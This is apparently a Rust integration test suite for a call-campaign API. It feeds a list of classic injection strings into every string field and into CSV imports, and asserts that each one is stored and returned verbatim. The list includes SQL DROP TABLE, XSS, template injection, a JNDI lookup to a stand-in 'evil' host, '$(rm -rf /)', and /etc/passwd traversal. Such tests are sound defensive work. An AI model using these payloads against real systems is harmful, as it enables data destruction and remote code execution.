//! Injection attempts in every string field a client can send are stored and returned verbatim:
//! no SQL is run, no markup or template is interpreted, nothing is mangled.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::helpers::{ADMIN_SECRET, TestApp};

/// Each is a classic attack on some layer; `{}` is replaced by a number to keep names unique.
const ATTACKS: &[&str] = &[
    "Robert'); DROP TABLE contacts;-- {}",
    "' OR '1'='1' -- {}",
    "<script>alert(\"x\")</script><img src=x onerror=alert(1)> {}",
    "{{ 7*7 }} {% for x in range(9) %}{{ x }}{% endfor %} {}",
    "${jndi:ldap://evil/x} $(rm -rf /) `id` {}",
    "../../etc/passwd %s%n%x \\x00 {}",
    "王芳 😀 \u{202e}txet desrever\u{202c} ¿ñ? {}",
];

fn attack(i: usize, n: usize) -> String {
    ATTACKS[i % ATTACKS.len()].replace("{}", &n.to_string())
}

async fn created(app: &TestApp, path: &str, body: Value) -> Value {
    let r = app.post(path, ADMIN_SECRET, body).await;
    assert!(r.status.is_success(), "{path}: {} {}", r.status, r.text);
    r.body.clone()
}

async fn injection_attempts_in_every_string_field_are_stored_and_returned_verbatim(app: TestApp) {
    for i in 0..ATTACKS.len() {
        let (code, name, description) = (attack(i, 1), attack(i + 1, 2), attack(i + 2, 3));
        let offer = created(
            &app,
            "/v1/offers",
            json!({"code": code, "name": name, "description": description}),
        )
        .await;
        assert_eq!(
            (offer["code"].as_str(), offer["name"].as_str()),
            (Some(&*code), Some(&*name))
        );
        assert_eq!(offer["description"], description);

        // The script body is a template; the attack text around it stays text.
        let body = format!(
            "{} — {{{{ name }}}} — {}",
            attack(i, 4).replace("{{", "(").replace("{%", "("),
            attack(i + 3, 5).replace("{{", "(").replace("{%", "(")
        );
        let script_name = attack(i + 4, 6);
        let script = created(
            &app,
            "/v1/scripts",
            json!({"name": script_name, "body": body}),
        )
        .await;
        assert_eq!(
            (script["name"].as_str(), script["body"].as_str()),
            (Some(&*script_name), Some(&*body))
        );

        let (team, agent_name) = (attack(i + 5, 7), attack(i + 6, 8));
        let agent = created(
            &app,
            "/v1/agents",
            json!({"name": agent_name, "team": team}),
        )
        .await;
        assert_eq!(
            (agent["name"].as_str(), agent["team"].as_str()),
            (Some(&*agent_name), Some(&*team))
        );
        let agent_token = agent["token"].as_str().unwrap().to_owned();
        app.sign_in(&agent_token).await;

        let token_name = attack(i, 9);
        created(
            &app,
            "/v1/tokens",
            json!({"role": "viewer", "name": token_name}),
        )
        .await;

        let campaign_name = attack(i + 1, 10);
        let campaign = created(&app, "/v1/campaigns", json!({
            "name": campaign_name, "offer": code, "script_id": script["id"], "teams": [team],
            "calling_windows": [{"days": ["mon","tue","wed","thu","fri","sat","sun"], "start": "00:00", "end": "24:00"}],
        })).await;
        let id = campaign["id"].as_i64().unwrap();
        let read = app.get(&format!("/v1/campaigns/{id}"), ADMIN_SECRET).await;
        assert_eq!(read.body["name"], campaign_name);
        assert_eq!(read.body["teams"], json!([team]));

        // A contact whose name and attributes are attacks, by JSON; the name holds template
        // syntax, which must come out of the rendered script as typed.
        let contact_name = attack(3, 11 + i);
        let (attr_key, attr_value) = (attack(i + 2, 12), attack(i + 3, 13));
        let phone = format!("+86138{:08}", 10_000_000 + i);
        let report = created(
            &app,
            &format!("/v1/campaigns/{id}/contacts"),
            json!({"contacts": [
            {"phone": phone, "name": contact_name, "attributes": {attr_key.clone(): attr_value}}]}),
        )
        .await;
        assert_eq!(report["accepted"], 1, "{report}");
        app.campaign_action(id, "start")
            .await
            .expect(StatusCode::OK);

        let (call, _, next) = app.take(&agent_token).await;
        assert_eq!(next["contact"]["name"], contact_name);
        assert_eq!(next["contact"]["attributes"][&attr_key], attr_value);
        assert_eq!(next["campaign"]["name"], campaign_name);
        let text = next["script"]["text"].as_str().unwrap();
        assert!(
            text.contains(&format!("— {contact_name} —")),
            "the name is inserted as typed: {text}"
        );

        let notes = format!("{}\n{}", attack(i, 14), attack(i + 1, 15));
        app.outcome(
            &agent_token,
            call,
            json!({"disposition": "complaint", "notes": notes}),
        )
        .await
        .expect(StatusCode::OK);
        let contact = next["contact"]["id"].as_i64().unwrap();
        let history = app
            .get(&format!("/v1/contacts/{contact}"), ADMIN_SECRET)
            .await;
        assert_eq!(history.body["name"], contact_name);
        assert_eq!(history.body["history"][0]["notes"], notes);
        assert_eq!(history.body["history"][0]["agent"], agent_name);

        let follow_ups = app.get("/v1/follow-ups", ADMIN_SECRET).await;
        let f = follow_ups.body["items"]
            .as_array()
            .and_then(|l| l.iter().find(|f| f["contact"] == contact).cloned())
            .expect("the complaint opened a follow-up");
        assert_eq!(f["notes"], notes);
        let resolution = attack(i + 4, 16);
        let r = app
            .call(
                Method::PATCH,
                &format!("/v1/follow-ups/{}", f["id"]),
                Some(ADMIN_SECRET),
                json!({"resolved": true, "resolution": resolution}),
            )
            .await;
        r.expect(StatusCode::OK);
        assert_eq!(r.body["resolution"], resolution);

        let reason = attack(i + 5, 17);
        let other = format!("+86139{:08}", 10_000_000 + i);
        created(&app, "/v1/dnc", json!({"phone": other, "reason": reason})).await;
        let listed = app
            .get(
                &format!("/v1/dnc?phone={}", other.replace('+', "%2B")),
                ADMIN_SECRET,
            )
            .await;
        assert_eq!(listed.body["items"][0]["reason"], reason);

        let target = created(
            &app,
            "/v1/targets",
            json!({"scope": "team", "scope_id": team,
            "period": "2026-11", "metric": "conversions", "goal": 5}),
        )
        .await;
        assert_eq!(target["scope_id"], team);
    }
    // And the tables the attacks named are still there.
    app.get("/v1/follow-ups?state=all", ADMIN_SECRET)
        .await
        .expect(StatusCode::OK);
    let r = app.get("/v1/campaigns", ADMIN_SECRET).await;
    assert_eq!(
        r.body["items"].as_array().map(Vec::len),
        Some(ATTACKS.len())
    );
}

async fn csv_cells_that_look_like_attacks_are_imported_verbatim(app: TestApp) {
    let campaign = app.campaign(json!({})).await;
    let mut csv = String::from("phone,name,note\n");
    for (i, a) in ATTACKS.iter().enumerate() {
        let cell = a.replace("{}", &i.to_string()).replace('"', "\"\"");
        csv.push_str(&format!("1380013{:04},\"{cell}\",\"={cell}\"\n", 8000 + i));
    }
    app.import_csv(campaign, &csv).await.expect(StatusCode::OK);
    let r = app
        .get(
            &format!("/v1/campaigns/{campaign}/contacts?limit=100"),
            ADMIN_SECRET,
        )
        .await;
    let items = r.body["items"].as_array().cloned().unwrap_or_default();
    assert_eq!(items.len(), ATTACKS.len());
    for (i, a) in ATTACKS.iter().enumerate() {
        let want = a.replace("{}", &i.to_string());
        let phone = format!("+861380013{:04}", 8000 + i);
        let c = items
            .iter()
            .find(|c| c["phone"] == phone)
            .expect("each row imported");
        let id = c["id"].as_i64().unwrap();
        let full = app.get(&format!("/v1/contacts/{id}"), ADMIN_SECRET).await;
        assert_eq!(full.body["name"], want);
        assert_eq!(full.body["attributes"]["note"], format!("={want}"));
    }
}

crate::on_both_backends!(
    injection_attempts_in_every_string_field_are_stored_and_returned_verbatim,
    csv_cells_that_look_like_attacks_are_imported_verbatim,
);
